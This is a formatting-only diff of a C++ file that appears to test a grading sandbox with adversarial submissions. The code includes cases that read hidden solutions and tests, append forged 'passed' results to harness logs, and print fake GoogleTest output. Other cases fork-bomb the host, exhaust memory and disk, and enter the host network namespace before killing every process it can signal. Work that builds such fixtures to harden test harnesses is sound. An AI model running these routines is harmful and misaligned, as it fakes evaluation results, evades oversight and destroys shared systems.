@@ -59,8 +59,8 @@ void append_to(const char* path, const char* text) {
 }
 
 void steal_and_tamper(const char* repository) {
-    for (const char* file : {"/solutions/ping/icmp_echo.cpp", "/tests/labs/test_ping.py",
-                             "/tests/labs/ping.toml"}) {
+    for (const char* file :
+         {"/solutions/ping/icmp_echo.cpp", "/tests/labs/test_ping.py", "/tests/labs/ping.toml"}) {
         print_file((std::string(repository) + file).c_str());
         print_file((std::string("/proc/1/root") + repository + file).c_str());
     }
@@ -76,7 +76,8 @@ void snoop_on_the_harness(const char* repository) {
     glob_t found{};
     if (glob("/tmp/np-net-*/results.jsonl", 0, nullptr, &found) == 0) {
         for (size_t index = 0; index < found.gl_pathc; ++index) {
-            append_to(found.gl_pathv[index], "{\"name\": \"test_reply_v4\", \"outcome\": \"passed\"}\n");
+            append_to(found.gl_pathv[index],
+                      "{\"name\": \"test_reply_v4\", \"outcome\": \"passed\"}\n");
         }
         globfree(&found);
     }
@@ -87,63 +88,64 @@ void snoop_on_the_harness(const char* repository) {
 
 void run(Attack attack, const char* repository) {
     switch (attack) {
-    case read_solutions:
-        steal_and_tamper(repository);
-        return;
-    case fork_bomb:
-        if (fork() == 0) {
-            for (;;) fork();
+        case read_solutions:
+            steal_and_tamper(repository);
+            return;
+        case fork_bomb:
+            if (fork() == 0) {
+                for (;;) fork();
+            }
+            sleep(2);  // the bomb goes on; the unit run then ends, and everything with it
+            return;
+        case memory_hog: {
+            std::vector<char*> blocks;
+            for (;;) {
+                char* block = static_cast<char*>(std::malloc(64 << 20));
+                if (block == nullptr) std::abort();
+                std::memset(block, 1, 64 << 20);
+                blocks.push_back(block);
+            }
         }
-        sleep(2);  // the bomb goes on; the unit run then ends, and everything with it
-        return;
-    case memory_hog: {
-        std::vector<char*> blocks;
-        for (;;) {
-            char* block = static_cast<char*>(std::malloc(64 << 20));
-            if (block == nullptr) std::abort();
-            std::memset(block, 1, 64 << 20);
-            blocks.push_back(block);
+        case output_flood: {
+            std::string line(1 << 16, 'x');
+            for (long written = 0; written < (1L << 30); written += line.size()) {
+                std::fwrite(line.data(), 1, line.size(), stdout);
+            }
+            return;
         }
-    }
-    case output_flood: {
-        std::string line(1 << 16, 'x');
-        for (long written = 0; written < (1L << 30); written += line.size()) {
-            std::fwrite(line.data(), 1, line.size(), stdout);
+        case disk_filler: {
+            std::string block(1 << 20, 'd');
+            for (int file = 0;; ++file) {
+                std::ofstream out("filler-" + std::to_string(file));
+                for (int mebibyte = 0; mebibyte < 32; ++mebibyte) out << block;
+                if (!out) return;
+            }
         }
-        return;
-    }
-    case disk_filler: {
-        std::string block(1 << 20, 'd');
-        for (int file = 0;; ++file) {
-            std::ofstream out("filler-" + std::to_string(file));
-            for (int mebibyte = 0; mebibyte < 32; ++mebibyte) out << block;
-            if (!out) return;
-        }
-    }
-    case escape_and_kill_all:
-        if (fork() == 0) {
-            setsid();
-            int host = open("/proc/1/ns/net", O_RDONLY);
-            if (host >= 0) setns(host, CLONE_NEWNET);
-            execlp("sleep", "sleep", "1000", static_cast<char*>(nullptr));
-            _exit(1);
-        }
-        kill(-1, SIGKILL);  // every process it may signal, except itself
-        return;
-    case network_snoop:
-        snoop_on_the_harness(repository);
-        return;
-    case fake_gtest_output:
-        // What GoogleTest prints for passing tests, then out before GoogleTest runs.
-        for (const char* name : {"EchoRequest.ChecksumVerifies", "EchoRequest.CarriesIdSeqAndPayload",
-                                 "EchoReply.ParsesIpv4WithHeader", "EchoReply.RejectsTruncated",
-                                 "IcmpError.MatchesQuotedProbe", "RttStats.SummaryLikeIputils",
-                                 "RttStats.MdevIntegerMicroseconds", "TimeFormat.Precision"}) {
-            std::printf("[ RUN      ] %s\n[       OK ] %s (0 ms)\n", name, name);
-        }
-        std::printf("[  PASSED  ] 8 tests.\n");
-        std::fflush(stdout);
-        _exit(0);
+        case escape_and_kill_all:
+            if (fork() == 0) {
+                setsid();
+                int host = open("/proc/1/ns/net", O_RDONLY);
+                if (host >= 0) setns(host, CLONE_NEWNET);
+                execlp("sleep", "sleep", "1000", static_cast<char*>(nullptr));
+                _exit(1);
+            }
+            kill(-1, SIGKILL);  // every process it may signal, except itself
+            return;
+        case network_snoop:
+            snoop_on_the_harness(repository);
+            return;
+        case fake_gtest_output:
+            // What GoogleTest prints for passing tests, then out before GoogleTest runs.
+            for (const char* name :
+                 {"EchoRequest.ChecksumVerifies", "EchoRequest.CarriesIdSeqAndPayload",
+                  "EchoReply.ParsesIpv4WithHeader", "EchoReply.RejectsTruncated",
+                  "IcmpError.MatchesQuotedProbe", "RttStats.SummaryLikeIputils",
+                  "RttStats.MdevIntegerMicroseconds", "TimeFormat.Precision"}) {
+                std::printf("[ RUN      ] %s\n[       OK ] %s (0 ms)\n", name, name);
+            }
+            std::printf("[  PASSED  ] 8 tests.\n");
+            std::fflush(stdout);
+            _exit(0);
     }
 }
 
